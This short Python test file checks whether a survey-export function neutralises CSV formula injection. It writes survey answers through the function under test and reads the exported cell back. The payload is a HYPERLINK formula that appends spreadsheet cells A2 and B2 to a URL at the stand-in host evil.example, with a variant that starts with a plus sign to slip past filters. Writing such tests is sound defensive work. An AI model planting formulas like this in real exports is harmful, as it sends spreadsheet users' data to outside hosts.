"""Answers a survey with a formula, and reads the cell in the export."""

import csv
import io
from types import SimpleNamespace

LINK = 'HYPERLINK("https://evil.example/?"&A2&B2, "Details")'


def attack(code):
    return formula(code, "=" + LINK)


def bypass(code):
    return formula(code, "+" + LINK)


def formula(code, text):
    cell = exported(code, text)
    return f"B3: {cell}" if cell[0] in "=+-@" else None


def exported(code, text):
    file = io.StringIO()
    answers = [SimpleNamespace(day="2 March", text="fine"), SimpleNamespace(day="3 March", text=text)]
    code.export(answers, file)
    file.seek(0)
    return list(csv.reader(file))[2][1]


def use(code):
    assert exported(code, 'I like it, "really"') == 'I like it, "really"'
